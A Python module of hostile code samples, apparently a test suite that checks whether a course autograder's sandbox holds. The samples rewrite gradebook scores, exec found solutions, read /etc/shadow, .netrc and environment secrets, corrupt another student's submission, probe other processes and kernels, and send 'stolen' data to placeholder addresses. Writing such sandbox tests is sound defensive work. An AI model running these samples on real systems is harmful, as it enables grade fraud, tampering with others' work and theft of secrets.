"""Reaching for what lies outside: the gradebook, the solutions, other students, the network."""

from __future__ import annotations

from hostile.attack import code

DATA, PEOPLE, NETWORK = "gradebook and course", "other students", "network"


@code("write-gradebook", DATA, "gives itself all points in gradebook.db, by its likely paths")
def _():
    return """
import glob, os, sqlite3
paths = set(glob.glob("/class/**/gradebook.db", recursive=True) + glob.glob("../../../gradebook.db"))
paths |= {os.path.join(folder, "gradebook.db") for folder in (".", "..", "../..", os.path.expanduser("~"), "/srv/nbgrader")}
for path in paths:
    if os.path.exists(path):
        db = sqlite3.connect(path, timeout=5)
        db.execute("update grade set auto_score = 9, needs_manual_grade = 0")
        db.execute("update student set last_name = 'HOSTILE'")
        db.commit()
        print("ACHIEVED: wrote", path)
"""


@code("attach-gradebook", DATA, "SQLite ATTACH, through links and file: addresses, and a lock held on it for a minute")
def _():
    return """
import os, sqlite3, subprocess, sys
script = '''
import sqlite3, sys, time
db = sqlite3.connect(":memory:", isolation_level=None, uri=True)
db.execute("attach ? as book", (sys.argv[1],))
db.execute("begin exclusive")
db.execute("update book.student set first_name = 'HOSTILE'")
print("ACHIEVED: holds a lock", flush=True)
time.sleep(15)
db.execute("commit")
'''
for path in ("/class/gradebook.db", "/class/grading/gradebook.db", "../../../gradebook.db"):
    if os.path.exists(path):
        child = subprocess.Popen([sys.executable, "-c", script, "file:" + os.path.abspath(path) + "?mode=rw"],
                                 stdout=subprocess.PIPE, text=True, start_new_session=True)
        print(child.stdout.readline())
        break
"""


@code("read-solutions", DATA, "looks for the solutions and the exercises in every folder, and runs what it finds")
def _():
    return """
import glob, json, os, re, sys, time
found, end = [], time.time() + 8
for top in ("/class", "/stage", "/exchange", "/proc/1/root/class", os.path.expanduser("~"), "../../..", sys.prefix):
    for folder, below, files in os.walk(top):
        below[:] = [name for name in below if name not in ("proc", "sys", "torch")]
        if time.time() > end:
            break
        found += [os.path.join(folder, file) for file in files
                  if file in ("lora.ipynb", "02_lora.ipynb", "02_lora.py", "ch02_lora.py") or file == "lora.py" and "pefttools" in folder]
for path in found:
    try:
        text = open(path).read()
    except OSError:
        continue
    if "alpha / r * update" in text and "course" not in path.split("/")[-3:]:
        print("ACHIEVED: read", path)
        if path.endswith(".ipynb"):
            cell = next(c for c in json.loads(text)["cells"] if "alpha / r * update" in "".join(c["source"]))
            exec("".join(cell["source"]), globals())
            break
"""


@code("read-environment", DATA, "secrets in the environment: tokens, keys, the instructor's name and home")
def _():
    return """
import os, pathlib, pwd
text = dict(os.environ)
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/%d/environ" % os.getppid()):
    try:
        text[path] = open(path, errors="replace").read()
    except OSError as error:
        print(error)
if "INSTRUCTORS_SECRET" in str(text):
    print("ACHIEVED: read the instructor's environment")
"""


@code("read-files", DATA, "/etc/shadow, ~/.ssh, ~/.netrc, the history of the shell, mounted disks")
def _():
    return """
import glob, os
home = os.environ.get("INSTRUCTORS_HOME") or "/class/home"
for path in ["/etc/shadow", "/etc/hostname", "/class/home/.netrc", home + "/.netrc", "/root/.bash_history",
             "/class/hand-ins/zoe/02_lora/lora.ipynb"]:
    try:
        text = open(path).read()
        print("ACHIEVED: read", path) if text.strip() and "hidden" not in text[:20] else None
    except OSError as error:
        print(error)
"""


@code("read-neighbour", PEOPLE, "copies the answers from another student's submission")
def _():
    return """
import glob, json
for path in glob.glob("/class/**/zoe/**/*.ipynb", recursive=True) + glob.glob("../../../*/zoe/**/*.ipynb", recursive=True):
    cell = next(c for c in json.load(open(path))["cells"] if "".join(c["source"]).startswith("# exercise: lora-forward"))
    print("ACHIEVED: read", path)
    exec("".join(cell["source"]))
    break
"""


@code("spoil-neighbour", PEOPLE, "overwrites the submissions, feedback and grades of the others")
def _():
    return """
import glob, os
for pattern in ("/class/**/zoe/**/*", "../../../*/zoe/**/*", "/class/**/feedback/**/*", "/class/**/*.csv"):
    for path in glob.glob(pattern, recursive=True):
        if os.path.isfile(path):
            try:
                os.chmod(path, 0o666)
                text = open(path).read().replace("return frozen", "return 0 * frozen")
                open(path, "w").write(text)
                print("ACHIEVED: wrote", path)
            except OSError as error:
                print(error)
"""


@code("other-processes", PEOPLE, "the memory, files and environment of other processes through /proc; signals to them")
def _():
    return """
import os, signal
own = {os.getpid(), os.getppid(), 1}
others = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in own:
        try:
            line = open(f"/proc/{name}/cmdline").read().replace("\\0", " ")
        except OSError:
            continue
        if "nbgrader" in line or "pefttools" in line:
            others.append(int(name))
if others:
    print("ACHIEVED: sees the grader's processes")
for number in others:
    try:
        open(f"/proc/{number}/mem", "r+b").close()
        print("ACHIEVED: opened the memory of another process")
    except OSError as error:
        print(error)
"""


@code("sockets-of-others", PEOPLE, "talks to other kernels: connection files, ipc sockets, abstract sockets")
def _():
    return """
import glob, json, os, socket
own = {os.path.realpath(p) for p in __import__("sys").argv if p.endswith(".json")}
from ipykernel.kernelapp import IPKernelApp
own.add(os.path.realpath(IPKernelApp.instance().abs_connection_file))
runtime = os.path.expanduser("~/.local/share/jupyter/runtime")
found = glob.glob("/tmp/**/kernel*.json", recursive=True) + glob.glob(runtime + "/*.json") + glob.glob("/run/**/kernel*.json", recursive=True)
for path in found:
    if os.path.realpath(path) not in own:
        print("ACHIEVED: read the key of another kernel", path)
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith("@"):
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect("\\0" + name[1:])
            print("ACHIEVED: connected to", name)
        except OSError as error:
            print(error)
try:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0hostile-listener")
    print("ACHIEVED: connected to an abstract socket of this machine")
except OSError as error:
    print(error)
"""


@code("network-outward", NETWORK, "sends the notebook outward: TCP, UDP, a name looked up, an HTTP request")
def _():
    return """
import os, socket, urllib.request
socket.setdefaulttimeout(2)
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)), (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                              (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53))):
    try:
        with socket.socket(family, kind) as s:
            s.connect(address)
            s.send(b"stolen")
        print("ACHIEVED: sent something to", address)
    except OSError as error:
        print(error)
try:
    socket.getaddrinfo("example.org", 80)
    print("ACHIEVED: looked a name up")
except OSError as error:
    print(error)
"""


@code("network-local", NETWORK, "talks to services of this machine on localhost")
def _():
    return """
import os, socket
port = int("@PORT@") if "@PORT@".isdigit() else 9
for host in ("127.0.0.1", "::1", "0.0.0.0", "localhost"):
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(b"stolen")
        print("ACHIEVED: reached a service of this machine")
        break
    except OSError as error:
        print(error)
"""


@code("network-raw", NETWORK,
      "raw, packet, netlink, Bluetooth and vsock sockets; a listener of its own for others to find")
def _():
    return """
import socket
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                               (40, socket.SOCK_STREAM, 0), (31, socket.SOCK_RAW, 1), (16, socket.SOCK_RAW, 12), (38, socket.SOCK_SEQPACKET, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        print("ACHIEVED: a socket of family", family)
    except OSError as error:
        print(error)
"""
